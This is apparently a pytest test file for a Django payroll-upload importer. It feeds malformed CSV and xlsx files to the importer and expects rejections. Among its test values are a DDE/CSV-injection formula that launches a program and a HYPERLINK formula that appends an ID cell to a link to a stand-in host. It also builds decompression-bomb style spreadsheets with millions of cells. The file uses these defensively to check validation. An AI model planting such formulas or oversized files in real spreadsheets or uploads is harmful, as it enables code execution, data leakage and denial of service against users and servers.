"""Bad-input corpus: the payroll (工资申报) upload (issue #12 items 4, 5, 7, 8, 9).

One line per case. A row case changes one cell of a good row (``{id}`` is the employee's 身份证号);
a file case gives the whole file. See :mod:`tests.bad_inputs.contrib_support` for the outcomes.
"""

from __future__ import annotations

import time

import pytest
from django.urls import reverse
from django.utils import timezone

from contributions import imports
from contributions.imports import readers

from .contrib_support import (
    FULL_WIDTH,
    check_case,
    csv_bytes,
    upload,
    written,
    xlsx_bytes,
    xlsx_with_sheet,
)

pytestmark = pytest.mark.django_db
URL = "contributions:payroll_upload"
HEADER = ["身份证号", "姓名", "月工资", "年度"]
WIDE = ["身份证号", "姓名", "月工资", "上年工资总额", "年度", "起薪月份"]
UNREGISTERED = "11010519491231002X"
BAD_CHECK = "110105194912310029"
HYPERLINK = '=HYPERLINK("http://x.example/"&A2,"点击")'


@pytest.fixture
def setup(client, case_worker, employer_a, employer_b, person_factory, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    person = person_factory(employer=employer_a, name="甲一")
    other = person_factory(employer=employer_b, name="乙一")
    client.force_login(case_worker)
    year = imports.payroll_years("hunan", timezone.localdate())[0]
    return {"client": client, "employer": employer_a, "id": person.id_number, "other": other.id_number, "year": year}


def _post(setup, name: str, data: bytes):
    before = written()
    fields = {"employer": setup["employer"].credit_code, "year": setup["year"]}
    return upload(setup["client"], reverse(URL), name, data, **fields), before


def _fill(value: str, setup) -> str:
    return value.format(id=setup["id"], other=setup["other"], year=setup["year"])


# (case id, header, cells of row 2, outcome, field of the error)
ROW_CASES = [
    ("wage_zero", HEADER, ["{id}", "甲一", "0", "{year}"], "row_error", "月工资"),
    ("wage_overflow", HEADER, ["{id}", "甲一", "999999999999.99", "{year}"], "row_error", "月工资"),
    ("wage_just_above_bound", HEADER, ["{id}", "甲一", "10000000.01", "{year}"], "row_error", "月工资"),
    ("wage_at_bound", HEADER, ["{id}", "甲一", "10000000.00", "{year}"], "accepted", None),
    ("wage_negative", HEADER, ["{id}", "甲一", "-1", "{year}"], "row_error", "月工资"),
    ("wage_three_decimals", HEADER, ["{id}", "甲一", "5000.123", "{year}"], "row_error", "月工资"),
    ("wage_trailing_zero_decimal", HEADER, ["{id}", "甲一", "5000.100", "{year}"], "accepted", None),
    ("wage_exponent", HEADER, ["{id}", "甲一", "1e13", "{year}"], "row_error", "月工资"),
    ("wage_nan", HEADER, ["{id}", "甲一", "NaN", "{year}"], "row_error", "月工资"),
    ("wage_infinity", HEADER, ["{id}", "甲一", "Infinity", "{year}"], "row_error", "月工资"),
    ("wage_formula", HEADER, ["{id}", "甲一", "=1+1", "{year}"], "row_error", "月工资"),
    ("wage_chinese_numerals", HEADER, ["{id}", "甲一", "五千", "{year}"], "row_error", "月工资"),
    ("wage_thousands_separator", HEADER, ["{id}", "甲一", "6,500", "{year}"], "accepted", None),
    ("wage_yuan_sign", HEADER, ["{id}", "甲一", "￥6500元", "{year}"], "accepted", None),
    ("wage_neither", WIDE, ["{id}", "甲一", "", "", "{year}", ""], "row_error", "月工资"),
    ("annual_zero", WIDE, ["{id}", "甲一", "", "0", "{year}", ""], "row_error", "上年工资总额"),
    ("annual_above_bound", WIDE, ["{id}", "甲一", "", "120000000.01", "{year}", ""], "row_error", "上年工资总额"),
    ("annual_only", WIDE, ["{id}", "甲一", "", "78000", "{year}", ""], "accepted", None),
    ("id_full_width", HEADER, ["{id}|fw", "甲一", "6500", "{year}"], "accepted", None),
    ("id_no_break_space", HEADER, ["{id}|nbsp", "甲一", "6500", "{year}"], "accepted", None),
    ("id_ideographic_spaces", HEADER, ["{id}|ideo", "甲一", "6500", "{year}"], "accepted", None),
    ("id_check_digit", HEADER, [BAD_CHECK, "甲一", "6500", "{year}"], "row_error", "身份证号"),
    ("id_seventeen_chars", HEADER, ["{id}|cut", "甲一", "6500", "{year}"], "row_error", "身份证号"),
    ("id_formula", HEADER, [HYPERLINK, "甲一", "6500", "{year}"], "row_error", "身份证号"),
    ("id_empty", HEADER, ["", "甲一", "6500", "{year}"], "row_error", "身份证号"),
    ("id_other_employer", HEADER, ["{other}", "乙一", "6500", "{year}"], "row_error", "身份证号"),
    ("id_unregistered", HEADER, [UNREGISTERED, "张三", "6500", "{year}"], "row_error", "身份证号"),
    ("name_too_long", HEADER, ["{id}", "甲" * 51, "6500", "{year}"], "row_error", "姓名"),
    ("name_formula", HEADER, ["{id}", "=cmd|' /C calc'!A0", "6500", "{year}"], "row_error", "姓名"),
    ("name_empty", HEADER, ["{id}", "", "6500", "{year}"], "row_error", "姓名"),
    ("year_far_future", HEADER, ["{id}", "甲一", "6500", "2030"], "row_error", "年度"),
    ("year_1900", HEADER, ["{id}", "甲一", "6500", "1900"], "row_error", "年度"),
    ("year_text", HEADER, ["{id}", "甲一", "6500", "abc"], "row_error", "年度"),
    ("first_month_1899", WIDE, ["{id}", "甲一", "6500", "", "{year}", "1899-12"], "row_error", "起薪月份"),
    ("first_month_13", WIDE, ["{id}", "甲一", "6500", "", "{year}", "2024-13"], "row_error", "起薪月份"),
]


def _cell(value: str, setup) -> str:
    text = _fill(value.split("|")[0], setup)
    if value.endswith("|fw"):
        return text.translate(FULL_WIDTH)
    if value.endswith("|nbsp"):
        return text[:6] + "\u00a0" + text[6:]
    if value.endswith("|ideo"):
        return "\u3000" + text[:6] + " " + text[6:14] + " " + text[14:] + "\u3000"
    if value.endswith("|cut"):
        return text[:17]
    return text


@pytest.mark.bad_input(area="payroll", outcome="mixed")
@pytest.mark.parametrize(("case", "header", "cells", "expected", "field"), ROW_CASES, ids=[c[0] for c in ROW_CASES])
def test_payroll_row(setup, settings, case, header, cells, expected, field):
    data = csv_bytes([header, [_cell(v, setup) for v in cells]])
    outcome, before = _post(setup, "payroll.csv", data)
    check_case(setup["client"], outcome, expected, (2, field), settings.MEDIA_ROOT, before)


def test_payroll_duplicate_rows(setup, settings):
    rows = [HEADER, [setup["id"], "甲一", "6500", setup["year"]], [setup["id"], "甲一", "6600", setup["year"]]]
    outcome, before = _post(setup, "payroll.csv", csv_bytes(rows))
    check_case(setup["client"], outcome, "row_error", (3, "身份证号"), settings.MEDIA_ROOT, before)
    assert "第 2 行" in outcome.message


def _row(setup) -> list:
    return [setup["id"], "甲一", "6500", str(setup["year"])]


def _far_row_sheet() -> str:
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>身份证号</t></is></c></row>'
        '<row r="900000"><c r="A900000" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )


def _wide_sheet(cells: int, dimension: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}<sheetData>'
        f'<row r="1">{"<c/>" * cells}</row></sheetData></worksheet>'
    )


# (case id, file name, bytes builder, outcome, part of the message)
FILE_CASES = [
    ("xls", "payroll.xls", lambda s: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_error", "另存为"),
    ("pdf", "payroll.pdf", lambda s: b"%PDF-1.4 ...", "file_error", "只接受 .xlsx 或 .csv"),
    ("header_only_csv", "p.csv", lambda s: csv_bytes([HEADER]), "file_error", "文件中没有数据行"),
    ("header_only_xlsx", "p.xlsx", lambda s: xlsx_bytes([HEADER]), "file_error", "文件中没有数据行"),
    (
        "blank_rows_only",
        "p.csv",
        lambda s: csv_bytes([HEADER, ["", "", "", ""], [" ", "", "", ""]]),
        "file_error",
        "文件中没有数据行",
    ),
    ("text_as_xlsx", "p.xlsx", lambda s: "身份证号,姓名\n".encode(), "file_error", "不是有效的 Excel"),
    ("utf16_csv", "p.csv", lambda s: "\ufeff身份证号,姓名,月工资,年度\n".encode("utf-16-le"), "file_error", "UTF-16"),
    ("undecodable_csv", "p.csv", lambda s: b"\x80\x80\x80,\xff\xff\n", "file_error", "无法识别 CSV 文件的编码"),
    ("binary_csv", "p.csv", lambda s: b"\x00\x01\x02\x03binary", "file_error", "不是文本格式"),
    ("missing_columns", "p.csv", lambda s: csv_bytes([["姓名", "工资"], ["甲一", "5"]]), "file_error", "缺少必需的列"),
    ("too_many_columns_csv", "p.csv", lambda s: csv_bytes([[*HEADER, *"x" * 200], _row(s)]), "file_error", "200 列"),
    ("wide_row_no_dimension", "p.xlsx", lambda s: xlsx_with_sheet(_wide_sheet(500)), "file_error", "200 列"),
    ("wide_dimension", "p.xlsx", lambda s: xlsx_with_sheet(_wide_sheet(1, "A1:ZZ10")), "file_error", "200 列"),
    ("far_row_number", "p.xlsx", lambda s: xlsx_with_sheet(_far_row_sheet()), "file_error", "行数超过上限"),
    ("gb18030_csv", "p.csv", lambda s: csv_bytes([HEADER, _row(s)], encoding="gb18030"), "accepted", None),
    ("utf8_bom_csv", "p.csv", lambda s: csv_bytes([HEADER, _row(s)], encoding="utf-8-sig"), "accepted", None),
    ("utf8_csv", "p.csv", lambda s: csv_bytes([HEADER, _row(s)], encoding="utf-8"), "accepted", None),
    ("xlsx", "p.xlsx", lambda s: xlsx_bytes([HEADER, _row(s)]), "accepted", None),
]


@pytest.mark.bad_input(area="payroll", outcome="mixed")
@pytest.mark.parametrize(("case", "name", "build", "expected", "message"), FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_payroll_file(setup, settings, case, name, build, expected, message):
    outcome, before = _post(setup, name, build(setup))
    check_case(setup["client"], outcome, expected, message, settings.MEDIA_ROOT, before)


# Limits shrunk so the case stays small; the check is the same code path as at full size.
LIMIT_CASES = [
    ("too_many_rows", "MAX_ROWS", 2, "行数超过上限"),
    ("decompressed_too_large", "MAX_XLSX_EXPANDED_BYTES", 2_000, "解压后过大"),
    ("file_too_large", "MAX_UPLOAD_BYTES", 100, "文件过大"),
]


@pytest.mark.bad_input(area="payroll", outcome="file_error")
@pytest.mark.parametrize(("case", "limit", "value", "message"), LIMIT_CASES, ids=[c[0] for c in LIMIT_CASES])
def test_payroll_limits(setup, settings, monkeypatch, case, limit, value, message):
    monkeypatch.setattr(readers, limit, value)
    rows = [HEADER, *([_row(setup)] * 3)]
    outcome, before = _post(setup, "p.xlsx", xlsx_bytes(rows))
    check_case(setup["client"], outcome, "file_error", message, settings.MEDIA_ROOT, before)


@pytest.mark.bad_input(area="payroll", outcome="file_error")
def test_one_row_of_millions_of_cells_is_refused_quickly(setup, settings):
    """Issue #12 item 7: a small .xlsx expanding to one row of 7.9 million cells took 15 s and 600 MB."""
    data = xlsx_with_sheet(_wide_sheet(7_900_000))
    assert len(data) < 300 * 1024
    started = time.monotonic()
    outcome, before = _post(setup, "p.xlsx", data)
    assert time.monotonic() - started < 5
    check_case(setup["client"], outcome, "file_error", "200 列", settings.MEDIA_ROOT, before)


@pytest.mark.bad_input(area="payroll", outcome="row_error")
def test_employer_user_is_not_told_where_an_id_is_registered(client, employer_user_a, setup, settings):
    """Issue #12 item 9: "not registered" and "registered at another employer" read the same."""
    client.force_login(employer_user_a)
    rows = [HEADER, [setup["other"], "乙一", "6500", setup["year"]], [UNREGISTERED, "张三", "6500", setup["year"]]]
    outcome, before = _post({**setup, "client": client}, "payroll.csv", csv_bytes(rows))
    check_case(client, outcome, "row_error", (2, "身份证号"), settings.MEDIA_ROOT, before)
    messages = [e["message"] for e in outcome.errors]
    assert messages == [imports.NOT_OUR_EMPLOYEE, imports.NOT_OUR_EMPLOYEE]
    html = client.get(reverse("contributions:import_job", args=[outcome.job.pk])).content.decode()
    assert "未找到" not in html and "未在本单位" not in html and "不是本单位在册职工" in html
